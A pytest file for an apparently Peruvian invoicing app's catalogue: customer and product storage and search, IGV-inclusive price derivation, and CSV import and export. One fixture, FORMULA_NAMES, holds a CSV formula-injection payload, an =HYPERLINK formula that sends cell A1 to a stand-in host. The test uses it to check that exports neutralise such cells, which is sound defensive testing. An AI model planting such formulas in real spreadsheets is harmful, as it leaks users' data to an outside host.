"""Issue 19, the catalogue's storage and pure parts: customers and products stores and their searches, prices
with IGV (the payable total is what was typed), CSV preview / import / export (docs/catalog.md)."""

from __future__ import annotations

import codecs
import json
import re
import sqlite3
import threading
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.core.contract import GenerarXmlRequest, parse_model
from app.core.errors import YupanaError
from app.core.invoicing import ubl, voucher_keys
from app.core.invoicing.amounts import IGV_RATE, money
from app.core.invoicing.catalog import csvfiles, prices, records, text
from app.core.invoicing.catalog.customers import Customers
from app.core.invoicing.catalog.products import Products
from app.core.invoicing.catalog.records import Product
from app.core.invoicing.prevalidation import decimals
from app.core.storage.engines import open_database, repositories
from app.core.storage.ports.catalog import DuplicateCustomer, DuplicateProduct
from app.core.storage.sqlite.catalog import SqliteCustomerRepository
from app.core.storage.sqlite.database import Storage
from tests.helpers.oracles import run_sunat_check
from tests.helpers.sunat_support import sign

CUSTOMER_RUC = "20601030013"
D = Decimal


def _open(folder: Path) -> Storage:
    folder.mkdir()
    return open_database(folder / "yupana.db")


@pytest.fixture
def storage(engine_database):
    """A fresh database of each engine in turn (SQLite and PostgreSQL: tests/helpers/postgres.py)."""
    return engine_database


@pytest.fixture
def sqlite_storage(tmp_path):
    """A SQLite folder, for what only that engine has (its query plans, its write lock, its change count)."""
    store = _open(tmp_path / "catalogo")
    yield store
    store.close()


def _customers(storage) -> Customers:
    return Customers(storage, repositories(storage).customers)


def _products(storage) -> Products:
    return Products(storage, repositories(storage).products)


@pytest.fixture
def customers(storage):
    return _customers(storage)


@pytest.fixture
def products(storage):
    return _products(storage)


def _plans(storage: Storage, run) -> list[str]:
    """The query plans of every SELECT `run()` issues on this thread's connection."""
    conn = storage.conn()
    statements: list[str] = []
    conn.set_trace_callback(statements.append)
    try:
        run()
    finally:
        conn.set_trace_callback(None)
    plans = []
    for sql in statements:
        if sql.lstrip().upper().startswith("SELECT"):
            plans += [row[3] for row in conn.execute("EXPLAIN QUERY PLAN " + sql)]
    return plans


# ---------------------------------------------------------------- the engine

def test_opening_an_engine_creates_the_catalogue(engine):
    names = {row[0] for row in engine._storage.conn().execute("SELECT name FROM sqlite_master")}
    assert {"customers", "customers_fts", "products", "products_fts"} <= names
    saved = _products(engine._storage).save(records.product(codigo="P1", descripcion="Pan francés", precio="0.30"))
    assert _products(engine._storage).search("frances") == [saved] == engine._products.search("frances")


# ---------------------------------------------------------------- customers

def test_a_customer_is_unique_by_its_document(customers):
    first = customers.save(records.customer(tipo_documento="6", numero=CUSTOMER_RUC, nombre="Andina S.A.C.",
                                            whatsapp="987 654 321", email="compras@andina.pe"))
    again = customers.save(records.customer(tipo_documento="6", numero=CUSTOMER_RUC, nombre="Distribuidora Andina"))
    assert customers.count() == 1 and again.id == first.id
    assert again.nombre == "Distribuidora Andina" and first.whatsapp == "+51987654321"
    assert customers.save(records.customer(tipo_documento="1", numero=CUSTOMER_RUC[:8], nombre="Otra")).id != first.id


def test_customers_without_a_document_are_told_apart_by_name(customers):
    ana = customers.save(records.customer(tipo_documento="0", numero="-", nombre="Ana Pérez"))
    same = customers.save(records.customer(tipo_documento="0", numero="", nombre="  ANA   perez "))
    other = customers.save(records.customer(tipo_documento="0", numero=None, nombre="Luis Pérez"))
    assert ana.numero is None and same.id == ana.id and other.id != ana.id and customers.count() == 2


def test_an_issued_voucher_remembers_its_customer_and_keeps_what_was_typed_by_hand(customers):
    typed = customers.save(records.customer(tipo_documento="1", numero="45678912", nombre="María Quispe",
                                            whatsapp="+51987654321", email="maria@correo.pe"))
    remembered = customers.remember("1", "45678912", "MARÍA QUISPE MAMANI", "Jr. Puno 123")
    assert remembered.id == typed.id and remembered.nombre == "MARÍA QUISPE MAMANI"
    assert remembered.direccion == "Jr. Puno 123"
    assert (remembered.whatsapp, remembered.email) == ("+51987654321", "maria@correo.pe")
    assert customers.remember("1", "45678912", "MARÍA QUISPE MAMANI").direccion == "Jr. Puno 123"  # kept
    assert customers.remember("0", "-", "CLIENTES VARIOS") is None
    assert customers.remember("1", "123", "Número corto") is None
    assert customers.remember("6", "20601030014", "Dígito malo") is None
    assert customers.count() == 1
    found = customers.remember_ruc(CUSTOMER_RUC, "DISTRIBUIDORA ANDINA S.A.C.", "AV. LOS ANDES 1")
    assert customers.get("6", CUSTOMER_RUC) == found and found.direccion == "AV. LOS ANDES 1"


def test_remembering_an_unchanged_customer_is_only_a_read(sqlite_storage):
    """A registry look-up remembers its RUC each time: when nothing would change it must not wait for the write
    lock (another process may hold it) nor count as a change others see."""
    storage, customers = sqlite_storage, _customers(sqlite_storage)
    customers.remember_ruc(CUSTOMER_RUC, "DISTRIBUIDORA ANDINA S.A.C.", "AV. LOS ANDES 1")
    other = sqlite3.connect(storage.path, timeout=0, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another process is writing, for longer than a look-up may wait
    try:
        done = threading.Event()
        worker = threading.Thread(target=lambda: (customers.remember_ruc(CUSTOMER_RUC, "DISTRIBUIDORA ANDINA S.A.C."),
                                                  done.set()), daemon=True)
        worker.start()
        assert done.wait(10), "an unchanged customer waited for the write lock"
    finally:
        other.execute("ROLLBACK")
        other.close()
    worker.join(10)
    assert customers.get("6", CUSTOMER_RUC).direccion == "AV. LOS ANDES 1"


def test_customers_are_found_by_number_prefix_and_by_words_of_the_name_accents_aside(customers, storage):
    customers.save(records.customer(tipo_documento="6", numero=CUSTOMER_RUC, nombre="Distribuidora Andina S.A.C."))
    customers.save(records.customer(tipo_documento="1", numero="45678912", nombre="Juan Pérez Gómez"))
    customers.save(records.customer(tipo_documento="1", numero="45600001", nombre="Ñusta Peña"))
    assert [c.numero for c in customers.search("456")] == ["45600001", "45678912"]
    assert [c.nombre for c in customers.search("perez")] == ["Juan Pérez Gómez"]
    assert [c.nombre for c in customers.search("PÉR jua")] == ["Juan Pérez Gómez"]
    assert [c.nombre for c in customers.search("pena nusta")] == ["Ñusta Peña"]
    assert [c.numero for c in customers.search("2060103")] == [CUSTOMER_RUC]
    assert customers.search("pedro") == [] and customers.search("   ") == [] and customers.search('"*') == []
    if not isinstance(storage, Storage):
        return  # the query plans below are SQLite's
    plans = _plans(storage, lambda: (customers.search("456"), customers.search("perez")))
    assert plans and not any(plan.startswith("SCAN c") or plan == "SCAN customers" for plan in plans), plans
    assert any("customers_numero" in plan for plan in plans) and any("VIRTUAL TABLE" in plan for plan in plans)


def test_renaming_or_deleting_a_customer_updates_its_search(customers):
    saved = customers.save(records.customer(tipo_documento="1", numero="45678912", nombre="Juan Pérez"))
    customers.update(saved.id, records.customer(tipo_documento="1", numero="45678912", nombre="Juana Rojas"))
    assert customers.search("perez") == [] and [c.id for c in customers.search("rojas")] == [saved.id]
    other = customers.save(records.customer(tipo_documento="1", numero="11111111", nombre="Otro"))
    with pytest.raises(YupanaError) as taken:
        customers.update(other.id, records.customer(tipo_documento="1", numero="45678912", nombre="Otro"))
    assert taken.value.http_status == 409
    assert customers.delete(saved.id) and customers.search("rojas") == [] and customers.search("4567") == []


def test_a_customer_with_bad_fields_is_refused_naming_each_one():
    with pytest.raises(YupanaError) as refused:
        records.customer(tipo_documento="9", numero="x", nombre="", whatsapp="12", email="no-es-correo")
    fields = {d.field: d.message for d in refused.value.details}
    assert set(fields) == {"tipo_documento", "nombre", "whatsapp", "email"}
    assert "«9»" in fields["tipo_documento"] and "«no-es-correo»" in fields["email"] and "«12»" in fields["whatsapp"]
    with pytest.raises(YupanaError) as dni:
        records.customer(tipo_documento="DNI", numero="1234567", nombre="Corto")
    assert dni.value.details[0].field == "numero" and "«1234567»" in dni.value.details[0].message


# ---------------------------------------------------------------- products

def _product(codigo: str, descripcion: str, precio: str = "2.50", **extra) -> Product:
    return records.product(codigo=codigo, descripcion=descripcion, precio=precio, **extra)


def test_products_are_found_by_barcode_code_prefix_and_words_of_the_description(products, storage):
    coca = products.save(_product("BEB-001", "Coca-Cola 500 ml", codigo_barras="7750182000123"))
    products.save(_product("BEB-002", "Inca Kola 500 ml", codigo_barras="7750182000130"))
    products.save(_product("PAN-001", "Pan francés", "0.30", unidad="NIU"))
    products.save(_product("AZU-1", "Azúcar rubia 1 kg", "4.20", unidad="KGM"))
    assert products.search("7750182000123") == [coca]
    assert products.by_barcode("7750182000130").codigo == "BEB-002"
    assert [p.codigo for p in products.search("beb-")] == ["BEB-001", "BEB-002"]  # case aside
    assert [p.codigo for p in products.search("azucar")] == ["AZU-1"]
    assert [p.codigo for p in products.search("kola 50")] == ["BEB-002"]
    assert [p.codigo for p in products.search("500 ml")] == ["BEB-001", "BEB-002"]
    assert products.search("fran") == products.search("FRANCÉS") != []
    assert products.search("leche") == []
    if not isinstance(storage, Storage):
        return  # the query plans below are SQLite's
    plans = _plans(storage, lambda: (products.search("7750182000123"), products.search("beb"),
                                     products.search("azucar")))
    assert plans and not any(plan in ("SCAN products", "SCAN p") for plan in plans), plans
    assert any("codigo_barras" in plan for plan in plans) and any("codigo>?" in plan for plan in plans)


def test_a_product_is_unique_by_code_case_aside_and_by_barcode(products):
    first = products.save(_product("abc", "Uno", codigo_barras="111"))
    again = products.save(_product("ABC", "Uno bis", "3", codigo_barras="111"))
    assert products.count() == 1 and again.id == first.id and (again.codigo, again.precio) == ("ABC", D("3"))
    with pytest.raises(YupanaError) as clash:
        products.save(_product("XYZ", "Otro", codigo_barras="111"))
    assert clash.value.http_status == 409 and products.by_code("XYZ") is None
    products.save(_product("XYZ", "Otro", codigo_barras="222"))
    with pytest.raises(YupanaError) as taken:
        products.update(products.by_code("XYZ").id, _product("abc", "Otro"))
    assert taken.value.http_status == 409
    assert products.delete(first.id) and products.search("uno") == [] and products.by_code("abc") is None


def test_a_product_keeps_its_price_flags_and_codes_exactly(products):
    saved = products.save(_product("BOLSA", "Bolsa plástica", "0.1000", precio_incluye_igv="no", icbper="sí",
                                   tipo_afectacion_igv="20", unidad="niu", codigo_detraccion="37"))
    assert (saved.precio, str(saved.precio), saved.precio_incluye_igv, saved.icbper) == (D("0.1"), "0.1000", False, True)
    assert (saved.unidad, saved.tipo_afectacion_igv, saved.codigo_detraccion) == ("NIU", "20", "037")


def test_a_product_with_bad_fields_is_refused_naming_each_one():
    with pytest.raises(YupanaError) as refused:
        records.product(codigo="x" * 31, descripcion="", precio="-1", unidad="CAJITA", tipo_afectacion_igv="17",
                        codigo_detraccion="999", codigo_barras="7,75E+12", icbper="quizá")
    fields = {d.field: d.message for d in refused.value.details}
    assert set(fields) == {"codigo", "descripcion", "precio", "unidad", "tipo_afectacion_igv", "codigo_detraccion",
                           "codigo_barras", "icbper"}
    assert "«CAJITA»" in fields["unidad"] and "catálogo 03" in fields["unidad"] and "«999»" in fields["codigo_detraccion"]
    assert "notación científica" in fields["codigo_barras"] and "«-1»" in fields["precio"]


# ---------------------------------------------------------------- the repositories (issue 28)

STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")  # as the schema's defaults write it


def test_the_customer_repository_remembers_only_what_changes(sqlite_storage):
    """`remember` writes a stored customer only when its name changes, or an address is given that differs (none
    given keeps the stored one); WhatsApp and e-mail stay. Timestamps keep the schema's format."""
    storage = sqlite_storage  # SQLite's count of the rows a connection wrote
    repo = SqliteCustomerRepository(storage)
    ana = records.customer(tipo_documento="1", numero="45678912", nombre="Ana", whatsapp="987654321")
    repo.save([ana])
    stored = repo.by_key(ana.clave)
    assert STAMP.fullmatch(stored.created_at) and STAMP.fullmatch(stored.updated_at)
    conn = storage.conn()

    def writes(customer: records.Customer) -> bool:
        before = conn.total_changes  # rows written by this connection (the search index's too)
        repo.remember([customer])
        return conn.total_changes != before

    same = records.Customer("1", "45678912", "Ana")
    assert not writes(same)
    assert writes(records.Customer("1", "45678912", "Ana", "Jr. Puno 1"))  # an address where there was none
    assert not writes(same) and not writes(records.Customer("1", "45678912", "Ana", "Jr. Puno 1"))
    assert writes(records.Customer("1", "45678912", "Ana", "Jr. Cusco 2"))
    assert writes(records.Customer("1", "45678912", "ANA QUISPE"))
    now = repo.by_key(ana.clave)
    assert (now.id, now.nombre, now.direccion, now.whatsapp) == (stored.id, "ANA QUISPE", "Jr. Cusco 2", "+51987654321")
    assert now.updated_at >= stored.updated_at and now.created_at == stored.created_at
    assert writes(records.Customer("1", "11111111", "Luis")) and repo.count() == 2


def test_the_repositories_refuse_a_taken_key_and_that_write_fails_alone(storage):
    customers, products = repositories(storage).customers, repositories(storage).products
    customers.save([records.customer(tipo_documento="1", numero="11111111", nombre="Uno"),
                    records.customer(tipo_documento="1", numero="22222222", nombre="Dos")])
    dos = customers.by_key(records.customer_key("1", "22222222", ""))
    with pytest.raises(DuplicateCustomer):
        customers.update(dos.id, records.customer(tipo_documento="1", numero="11111111", nombre="Dos"))
    assert not customers.update(dos.id + 100, dos) and customers.by_id(dos.id) == dos
    with storage.transaction():  # the clashes are listed; the other products are written in the same transaction
        clashes = products.save([_product("P1", "Uno", codigo_barras="111"), _product("P2", "Dos", codigo_barras="111"),
                                 _product("P3", "Tres", codigo_barras="333"), _product("p1", "Uno bis"),
                                 _product("P4", "Cuatro", codigo_barras="333")])
    assert clashes == [1, 4]
    assert [(p.codigo, p.descripcion, p.codigo_barras) for p in products.all()] == [
        ("p1", "Uno bis", None), ("P3", "Tres", "333")]  # the code's conflict replaced P1, its spelling too
    tres = products.by_code("p3")
    assert tres is not None and products.by_barcode("333") == tres and products.by_code_prefix("P", 5) == products.all()
    with pytest.raises(DuplicateProduct):
        products.update(tres.id, _product("P1", "Tres"))
    assert not products.update(tres.id + 100, tres) and products.by_id(tres.id) == tres


# ---------------------------------------------------------------- prices with IGV

SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
typed_prices = st.decimals(min_value=D("0.10"), max_value=D("10000.00"), places=2)
quantities = st.decimals(min_value=D("0.001"), max_value=D("9999.999"), places=3)
# A line worth at least two cents with IGV: one without value is refused by the builder (SUNAT's 3105).
lines = st.lists(st.tuples(typed_prices, quantities).filter(lambda line: line[0] * line[1] >= D("0.02")),
                 min_size=1, max_size=6)


def _request(tipo: str, derived: list[tuple[Decimal, prices.LinePrice]], numero: int = 1) -> dict:
    items = [{"descripcion": f"Producto {i}", "cantidad": q, **line.item_fields()}
             for i, (q, line) in enumerate(derived, start=1)]
    receptor = ({"ruc": CUSTOMER_RUC, "razon_social": "DISTRIBUIDORA ANDINA S.A.C."} if tipo == "01" else
                {"tipo_documento": "1", "numero_documento": "45678912", "razon_social": "MARÍA QUISPE"})
    return {"tipo": tipo, "serie": "F001" if tipo == "01" else "B001", "numero": numero,
            "emisor": {"ruc": "20100066603"}, "receptor": receptor, "items": items}


@SETTINGS
@given(typed=lines)
def test_the_payable_total_is_what_was_typed(engine, company, typed):
    """Built by the voucher builder itself: each line's value + IGV is round_half_up(cantidad × price typed, 2),
    and the voucher's payable total is the sum of those line totals."""
    derived = [(q, prices.from_price_with_igv(p, q)) for p, q in typed]
    doc = engine._generation.build(parse_model(GenerarXmlRequest, _request("01", derived)))
    for (price, quantity), line in zip(typed, doc.lines, strict=True):
        assert line.valor_venta + line.igv == money(quantity * price)
    assert doc.total == sum((money(q * p) for p, q in typed), D(0))
    for _, line in derived:
        assert decimals(line.precio_unitario) <= prices.MAX_PLACES


@settings(max_examples=300, deadline=None)
@given(price=typed_prices, quantity=quantities)
def test_the_derived_line_is_what_the_builder_computes(price, quantity):
    line = prices.from_price_with_igv(price, quantity)
    valor = money(quantity * line.precio_unitario)
    computed = money(valor * IGV_RATE)
    assert line.valor_venta == valor and line.total == money(quantity * price) == valor + line.igv_linea
    assert decimals(line.precio_unitario) <= 6  # quantities below 10,000: docs/catalog.md
    if line.igv is None:
        assert line.igv_linea == computed
    else:  # sent only when needed, and within the builder's 0.01 (and SUNAT's 1.00) of its own figure
        assert line.igv == line.igv_linea and abs(line.igv - computed) == D("0.01")


def test_some_totals_need_the_line_igv_sent_and_no_unit_value_avoids_it():
    """v + round(0.18 v) skips about 15 % of the amounts for every v: those totals need `igv`, one cent off."""
    reachable = {cents + int(money(D(cents) * IGV_RATE / 100) * 100) for cents in range(0, 12_000)}
    needs_igv = 0
    for cents in range(1, 10_001):
        line = prices.from_price_with_igv(D(cents) / 100, D(1))
        assert line.total == D(cents) / 100 and line.valor_venta + line.igv_linea == line.total
        assert (line.igv is not None) == (cents not in reachable)
        assert line.igv is not None or line.precio_unitario == line.valor_venta  # one unit: the value itself
        needs_igv += line.igv is not None
    assert 0.14 < needs_igv / 10_000 < 0.165, needs_igv


def test_exonerated_lines_take_the_typed_price_as_it_is():
    line = prices.from_price_with_igv(D("3.333"), D("3"), prices.rate_for("20"))
    assert (line.precio_unitario, line.igv, line.total) == (D("3.333"), None, D("10.00"))
    assert prices.rate_for("10") == IGV_RATE and prices.from_price_with_igv(D("2.50"), D(3)).precio_unitario == D("2.12")
    with pytest.raises(ValueError):
        prices.from_price_with_igv(D("1"), D("0"))


@pytest.mark.parametrize("tipo", ["01", "03"])
def test_vouchers_of_prices_with_igv_pass_sunat_check_strict(engine, company, tmp_path, tipo):
    typed = [(D("2.50"), D("3")), (D("0.03"), D("1")), (D("12.90"), D("0.335")), (D("1999.99"), D("7")),
             (D("3.90"), D("1")), (D("5.60"), D("2"))]
    derived = [(q, prices.from_price_with_igv(p, q)) for p, q in typed]
    assert sum(line.igv is not None for _, line in derived) >= 2  # the case that sends `igv` is checked too
    doc = engine._generation.build(parse_model(GenerarXmlRequest, _request(tipo, derived, 7)))
    assert doc.total == sum((money(q * p) for p, q in typed), D(0))
    path = tmp_path / voucher_keys.file_name(doc.emisor_ruc, doc.tipo, doc.serie, doc.numero)
    path.write_bytes(sign(ubl.render(doc).encode("utf-8")))
    done = run_sunat_check(path, "--strict", "--json", timeout=300)
    verdict = json.loads(done.stdout.splitlines()[-1])
    assert done.returncode == 0 and verdict["ok"], verdict


# ---------------------------------------------------------------- CSV files

def _customers_sample(customers: Customers) -> None:
    for data in [dict(tipo_documento="6", numero=CUSTOMER_RUC, nombre="Distribuidora «Andina»; S.A.C.",
                      direccion='Av. "Los Andes" 123, Lima', whatsapp="+51987654321", email="compras@andina.pe"),
                 dict(tipo_documento="1", numero="04567891", nombre="Ñusta Peña Quispe"),
                 dict(tipo_documento="4", numero="001234567", nombre="John Smith", direccion="Miraflores"),
                 dict(tipo_documento="0", numero=None, nombre="Cliente de paso")]:
        customers.save(records.customer(**data))


def _products_sample(products: Products) -> None:
    for data in [dict(codigo="A-1", descripcion="Café tostado; 250 g", precio="12.50", codigo_barras="0775018200012"),
                 dict(codigo="A-2", descripcion='Azúcar "rubia" 1 kg', precio="4.2", unidad="KGM",
                      precio_incluye_igv="no", tipo_afectacion_igv="20"),
                 dict(codigo="B-1", descripcion="Bolsa plástica", precio="0.1234567891", icbper="sí"),
                 dict(codigo="S-1", descripcion="Servicio de transporte de carga", precio="1500", unidad="ZZ",
                      codigo_detraccion="027")]:
        products.save(records.product(**data))


def test_export_then_import_into_an_empty_folder_gives_the_same_catalogue(customers, products, tmp_path):
    _customers_sample(customers)
    _products_sample(products)
    assert csvfiles.customers_file(customers).export(tmp_path / "clientes.csv") == 4
    assert csvfiles.products_file(products).export(tmp_path / "productos.csv") == 4
    raw = (tmp_path / "productos.csv").read_bytes()
    assert raw.startswith(codecs.BOM_UTF8) and b";" in raw and b"12,50" in raw and b"\r\n" in raw
    assert raw.decode("utf-8-sig").splitlines()[0].startswith("Código;Código de barras;Descripción;")
    empty = _open(tmp_path / "vacia")
    try:
        other_customers, other_products = _customers(empty), _products(empty)
        report = csvfiles.customers_file(other_customers).import_file(tmp_path / "clientes.csv")
        assert report.ok and report.imported == 4
        report = csvfiles.products_file(other_products).import_file(tmp_path / "productos.csv")
        assert report.ok and report.imported == 4 and report.dialect.encoding == "utf-8-sig"
        assert [c.data() for c in other_customers.all()] == [c.data() for c in customers.all()]
        assert [p.data() for p in other_products.all()] == [p.data() for p in products.all()]
        assert [str(p.precio) for p in other_products.all()] == [str(p.precio) for p in products.all()]
    finally:
        empty.close()


FORMULA_NAMES = ['=HYPERLINK("http://malo.example/x?d="&A1;"Ver")', "+51 987 654 321", "-Descuento-",
                 "@empresa", "\tTabulado", "\rRetorno", "'=Ya con apóstrofo", "'Apóstrofo normal", "O'Higgins"]


def test_names_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_imported_back_unchanged(
        customers, products, tmp_path):
    """Issue 35: the export wrote `=HYPERLINK(…)` names as formulas; now a leading apostrophe, taken off on import."""
    for number, name in enumerate(FORMULA_NAMES, start=1):
        customers.save(records.customer(tipo_documento="1", numero=f"4000000{number}", nombre=name,
                                        direccion="=1+1" if number == 1 else None))
        products.save(records.product(codigo=f"F-{number}", descripcion=name, precio="1.50"))
    csvfiles.customers_file(customers).export(tmp_path / "clientes.csv")
    csvfiles.products_file(products).export(tmp_path / "productos.csv")
    text_of = (tmp_path / "clientes.csv").read_text(encoding="utf-8-sig")
    cells = [cell for line in text_of.split("\r\n")[1:] for cell in line.split(";")]
    assert not [cell for cell in cells if cell.strip('"').startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in text_of and "'=1+1" in text_of and "''=Ya con apóstrofo" in text_of
    assert ";'Apóstrofo normal;" in text_of and ";O'Higgins;" in text_of
    products_text = (tmp_path / "productos.csv").read_text(encoding="utf-8-sig")
    assert ";1,50;" in products_text  # amounts stay numbers, unguarded
    empty = _open(tmp_path / "vacia")
    try:
        other_customers, other_products = _customers(empty), _products(empty)
        assert csvfiles.customers_file(other_customers).import_file(tmp_path / "clientes.csv").ok
        assert csvfiles.products_file(other_products).import_file(tmp_path / "productos.csv").ok
        assert {c.nombre for c in customers.all()} >= set(FORMULA_NAMES[:4]) | set(FORMULA_NAMES[6:])
        assert sorted(c.nombre for c in other_customers.all()) == sorted(c.nombre for c in customers.all())
        assert [c.data() for c in other_customers.all()] == [c.data() for c in customers.all()]
        assert sorted(p.descripcion for p in other_products.all()) == sorted(p.descripcion for p in products.all())
        assert [p.data() for p in other_products.all()] == [p.data() for p in products.all()]
    finally:
        empty.close()


def test_a_file_from_excel_in_spanish_windows_is_read(products, customers, tmp_path):
    """Windows-1252, `;`, decimal comma, headers in another order and spelling, Excel's mangled numbers."""
    path = tmp_path / "excel.csv"
    path.write_bytes(("DESCRIPCION;Codigo;PRECIO;Incluye IGV;Unidad de medida;Otra columna\r\n"
                      "Café tostado;C1;12,50;Sí;NIU;x\r\n"
                      ";;;;;\r\n"
                      "Azúcar;C2;1.234,5;no;KGM;\r\n"
                      "Arroz;C3;S/ 3,8;;kgm;\r\n").encode("cp1252"))
    report = csvfiles.products_file(products).import_file(path)
    assert report.ok, report.errors
    assert report.dialect == csvfiles.Dialect("cp1252", ";", ",")
    found = {p.codigo: (p.descripcion, p.precio, p.precio_incluye_igv, p.unidad) for p in products.all()}
    assert found == {"C1": ("Café tostado", D("12.50"), True, "NIU"), "C2": ("Azúcar", D("1234.5"), False, "KGM"),
                     "C3": ("Arroz", D("3.8"), True, "KGM")}
    people = tmp_path / "clientes.csv"
    people.write_text("Tipo,Número de documento,Nombre,WhatsApp\nDNI,4567891,Ana Quispe,51987654321\n"
                      ",20601030013,Andina SAC,\n", encoding="utf-8")  # Excel dropped a zero and a «+»
    report = csvfiles.customers_file(customers).import_file(people)
    assert report.ok, report.errors
    assert report.dialect == csvfiles.Dialect("utf-8", ",", ".")
    assert customers.get("1", "04567891").whatsapp == "+51987654321" and customers.get("6", CUSTOMER_RUC)


def test_a_file_with_bad_rows_imports_nothing_and_lists_each_bad_row(products, tmp_path):
    products.save(_product("OLD", "Ya guardado", codigo_barras="999"))
    path = tmp_path / "malo.csv"
    path.write_text("Código;Descripción;Precio;Unidad;Código de barras\n"
                    "OK-1;Bueno;2,50;NIU;\n"
                    "MAL-1;Sin precio;;NIU;\n"
                    "MAL-2;Unidad rara;3,5x;CAJITA;\n"
                    "ok-1;Repetido;1;NIU;\n"
                    ";Sin código;1;NIU;\n", encoding="utf-8-sig")
    preview = csvfiles.products_file(products).preview(path)
    assert [p.codigo for p in preview.rows] == ["OK-1"] and preview.row_numbers == [2]
    listed = [(e.row, e.column) for e in preview.errors]
    assert listed == [(3, "Precio"), (4, "Precio"), (4, "Unidad"), (5, "Código"), (6, "Código")]
    messages = " ".join(e.message for e in preview.errors)
    assert "«3,5x»" in messages and "«CAJITA»" in messages and "«ok-1» ya está en la fila 2" in messages
    assert str(preview.errors[0]) == "Fila 3, columna «Precio»: Falta el precio: es obligatorio."
    report = csvfiles.products_file(products).import_file(path)
    assert not report.ok and report.imported == 0 and report.errors == preview.errors
    assert [p.codigo for p in products.all()] == ["OLD"]
    clash = tmp_path / "choque.csv"  # good rows, but one barcode is a stored product's: nothing either
    clash.write_text("Código;Descripción;Precio;Código de barras\nN-1;Nuevo;1;123\nN-2;Otro;1;999\n", encoding="utf-8")
    report = csvfiles.products_file(products).import_file(clash)
    assert report.imported == 0 and [(e.row, e.column) for e in report.errors] == [(3, "Código de barras")]
    assert "«999»" in report.errors[0].message and [p.codigo for p in products.all()] == ["OLD"]


def test_a_file_without_the_needed_columns_says_which(products, tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("Nombre;Importe\nAlgo;1\n", encoding="utf-8")
    preview = csvfiles.products_file(products).preview(path)
    assert preview.rows == [] and preview.errors[0].row == 1
    assert "«Código»" in preview.errors[0].message and "«Precio»" in preview.errors[0].message
    empty = tmp_path / "vacio.csv"
    empty.write_bytes(b"")
    assert csvfiles.products_file(products).import_file(empty).errors[0].message == "El archivo está vacío."


@pytest.mark.parametrize(("typed", "file_mark", "value"), [
    ("2,50", ".", "2.50"), ("2.50", ",", "2.50"), ("1.234,50", ".", "1234.50"), ("1,234.50", ",", "1234.50"),
    ("1,250", ",", "1.250"), ("1,250", ".", "1250"), ("S/ 3,8", ".", "3.8"), ("12", ",", "12"), (",5", ",", "0.5"),
    ("1.234.567,8", ".", "1234567.8"),
])
def test_amounts_as_spreadsheets_write_them(typed, file_mark, value):
    assert str(csvfiles.parse_amount(typed, file_mark)) == value


@pytest.mark.parametrize("typed", ["2,5,0", "1.2.3", "abc", "1,23.4,5", "12,34.567", ""])
def test_amounts_that_are_not_numbers(typed):
    with pytest.raises(records.FieldProblem):
        csvfiles.parse_amount(typed, ",")


def test_search_text_is_folded_as_the_index_folds_it():
    assert text.words("Ñandú PÉREZ-gómez_2") == ["nandu", "perez", "gomez", "2"]
    assert text.prefix_query('jua "pé') == '"jua"* "pe"*' and text.prefix_query(" -*") is None
    assert text.key("  José   Pérez ") == "jose perez"


def test_rows_keep_the_spreadsheets_numbers_after_a_sep_line_and_empty_rows(products, tmp_path):
    path = tmp_path / "sep.csv"
    path.write_text("sep=;\n;;\nCódigo;Descripción;Precio\nA;Uno;1,5\nB;Dos;x\n", encoding="utf-8")
    preview = csvfiles.products_file(products).preview(path)
    assert preview.dialect.delimiter == ";" and preview.row_numbers == [4]
    assert [(e.row, e.column) for e in preview.errors] == [(5, "Precio")] and preview.rows[0].precio == D("1.5")
